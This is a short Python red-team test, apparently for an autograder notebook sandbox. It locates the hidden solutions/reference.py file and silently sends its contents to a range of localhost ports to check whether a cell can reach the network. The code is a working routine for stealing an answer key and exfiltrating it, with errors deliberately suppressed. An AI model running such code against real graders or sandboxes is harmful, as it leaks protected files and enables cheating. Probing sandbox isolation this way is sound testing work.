# Red-team attack 10 (issue 7): reach the network from a notebook cell.
# This cell reads solutions/reference.py from the course folder (or sends a note when it
# cannot) and tries every port from 47640 to 47670 on 127.0.0.1, sending the bytes to each
# listener it reaches. Each attempt fails silently, within 0.2 s.

PORTS = range(47640, 47671)


def _payload():
    import os
    import sys
    from pathlib import Path

    places = []
    package = sys.modules.get("autograder")
    if package is not None and getattr(package, "__file__", None):
        places.append(Path(package.__file__).resolve().parents[1])
    here = Path(os.getcwd()).resolve()
    places += [here, *here.parents]
    for folder in places:
        try:
            return (folder / "solutions" / "reference.py").read_bytes()
        except Exception:
            continue
    return b"no reference.py here, but this student reached the network\n"


def _send_everywhere():
    import socket

    data = _payload()
    for port in PORTS:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2) as connection:
                connection.sendall(data)
        except Exception:
            pass


try:
    _send_everywhere()
except Exception:
    pass
